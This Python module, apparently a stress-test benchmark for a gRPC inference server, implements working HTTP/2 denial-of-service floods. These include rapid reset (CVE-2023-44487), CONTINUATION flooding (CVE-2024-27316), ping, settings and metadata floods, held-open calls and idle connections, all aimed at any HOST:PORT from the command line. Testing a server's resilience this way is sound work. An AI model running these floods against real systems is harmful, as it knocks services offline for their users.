"""Floods of HTTP/2 (RFC 9113) that a server must bear: a process of its own that sends one kind for some seconds.

`python -m benchmarks.flooding KIND HOST:PORT SECONDS` prints, as JSON, how many frames it has sent; of `halves`, how many calls
it has begun; of `silent`, how many connections the server has let go of. It takes what comes back without looking at it, connects
again when it is cut off, and lets go of everything at the end.
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, closing, suppress
from functools import partial
from itertools import count, cycle

from grpc_health.v1 import health_pb2

from benchmarks.http2 import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    DEFAULT_WINDOW,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    NUMBER,
    PING,
    PREFACE,
    RST_STREAM,
    SETTING,
    SETTINGS,
    Text,
    field,
    frame,
    prefixed,
    request,
)
from benchmarks.wire import Connection, WireError, connect
from stepstream_server.config import split_address
from stepstream_server.process import raise_descriptor_limit

_INFERENCE = "/stepstream.v1.InferenceService"
_STEP = f"{_INFERENCE}/Step"
PATHS = (  # methods of every service, of one request and of many
    _STEP,
    f"{_INFERENCE}/Generate",
    f"{_INFERENCE}/Stream",
    "/stepstream.v1.SessionService/OpenSession",
    "/stepstream.v1.ModelService/ListModels",
    "/grpc.health.v1.Health/Check",
)
_WATCH = "/grpc.health.v1.Health/Watch"
_AT_ONCE = 100  # frames between two looks at what came
_SILENT = 2_000  # connections
_WATCHES = 20_000  # on one connection
_HALVES = 1_000  # calls at once on one connection
_HALF_BYTES = 4 << 20  # of the message of such a call: the most that a server takes by default
_LONGEST_FIELD = 8_000  # bytes: below gRPC's limit for all metadata
_WAIT_SECONDS = 0.1

Frames = Iterator[bytes]
Address = tuple[str, int]


def resets() -> Frames:
    """Begins calls of many methods and resets them at once (CVE-2023-44487)."""
    for stream, path in zip(count(1, 2), cycle(PATHS), strict=False):
        yield _call(stream, path) + frame(RST_STREAM, 0, stream, NUMBER.pack(CANCEL))


def calls() -> Frames:
    """Begins calls, and never ends them."""
    for stream in count(1, 2):
        yield _call(stream)


def metadata() -> Frames:
    """Begins calls with as much metadata as gRPC takes."""
    for stream in count(1, 2):
        yield _call(stream, _STEP, ("x", b"a" * _LONGEST_FIELD))


def continuations() -> Frames:
    """Begins a header block, and never ends it (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, request(_STEP, "flood"))
    while True:
        yield frame(CONTINUATION, 0, 1, field("x", b"a" * _LONGEST_FIELD))


def pings() -> Frames:
    """Sends pings, each of which wants an answer."""
    while True:
        yield frame(PING, 0, 0, bytes(8))


def settings() -> Frames:
    """Sends settings, each of which wants to be acknowledged."""
    while True:
        yield frame(SETTINGS, 0, 0, SETTING.pack(INITIAL_WINDOW_SIZE, DEFAULT_WINDOW))


def watches() -> Frames:
    """Watches the health of a service, 20,000 times."""
    message = health_pb2.HealthCheckRequest(service="readiness").SerializeToString()
    for stream in range(1, 2 * _WATCHES, 2):
        yield _call(stream, _WATCH) + frame(DATA, END_STREAM, stream, prefixed(message))
    while True:
        wait(_WAIT_SECONDS)
        yield b""


KINDS: dict[str, Callable[[], Frames]] = {
    each.__name__: each for each in (resets, calls, metadata, continuations, pings, settings, watches)
}


def flood(kind: str, address: Address, seconds: float) -> int:
    """Sends frames of a kind until the time is over; returns how many."""
    until, sent = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        with suppress(OSError), socket.create_connection(address) as peer:
            peer.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
            frames = KINDS[kind]()
            while time.monotonic() < until:
                _send(peer, b"".join(next(frames) for _ in range(_AT_ONCE)), until)
                sent += _AT_ONCE
    return sent


def halves(address: Address, seconds: float) -> int:
    """Begins calls with messages of 4 MiB and sends all of each but one byte, as fast as the server's windows allow, 1,000 calls
    at once; others follow those that the server ends. Returns how many it has begun."""
    until, message, begun = time.monotonic() + seconds, bytes(_HALF_BYTES), 0
    while time.monotonic() < until:
        with suppress(OSError, WireError), closing(connect("{}:{}".format(*address), lenient=True)) as connection:
            before = begun
            while time.monotonic() < until:
                while begun - before < _HALVES + connection.ended:
                    connection.begin(connection.open_stream(_STEP), message)
                    begun += 1
                _exchange(connection)
    return begun


def stay_silent(address: Address, seconds: float, connections: int = _SILENT) -> int:
    """Connects so often and says nothing for so long; returns how many of its connections the server has let go of by then."""
    with ExitStack() as stack:
        peers = [stack.enter_context(socket.create_connection(address)) for _ in range(connections)]
        wait(seconds)
        return sum(_is_over(peer) for peer in peers)


def wait(seconds: float) -> None:
    """Lets time pass."""
    select.select([], [], [], seconds)


def _send(peer: socket.socket, data: bytes, until: float) -> None:
    """Writes, and takes what comes meanwhile. Raises OSError when it is cut off."""
    while data and time.monotonic() < until:
        readable, writable, _ = select.select([peer], [peer], [], _WAIT_SECONDS)
        if readable and not peer.recv(1 << 18):
            raise ConnectionResetError
        if writable:
            data = data[peer.send(data, socket.MSG_DONTWAIT) :]


def _exchange(connection: Connection) -> None:
    """Writes what the server takes and reads what has come, or waits for either. Raises OSError and WireError."""
    unwritten = [] if connection.write() else [connection]
    readable, _, _ = select.select([connection], unwritten, [], _WAIT_SECONDS)
    if readable:
        connection.receive()


def _is_over(peer: socket.socket) -> bool:
    """Reads what came to its end, if there is one."""
    with suppress(BlockingIOError):
        while data := peer.recv(1 << 16, socket.MSG_DONTWAIT):
            del data
        return True
    return False


def _call(stream: int, path: str = _STEP, *more: tuple[Text, Text]) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, request(path, "flood", *more))


ACTS: dict[str, Callable[[Address, float], int]] = {
    **{kind: partial(flood, kind) for kind in KINDS},
    "halves": halves,
    "silent": stay_silent,
}


def main() -> None:
    """Sends one flood, over as many connections as are asked for."""
    parser = argparse.ArgumentParser(prog="python -m benchmarks.flooding", description=__doc__)
    parser.add_argument("kind", choices=ACTS)
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--connections", type=int, default=1, help="that share the flood; default: %(default)s")
    options = parser.parse_args()
    raise_descriptor_limit()
    with ThreadPoolExecutor(options.connections) as pool:
        sent = pool.map(lambda _: ACTS[options.kind](split_address(options.address), options.seconds), range(options.connections))
        print(json.dumps(sum(sent)), flush=True)


if __name__ == "__main__":
    main()
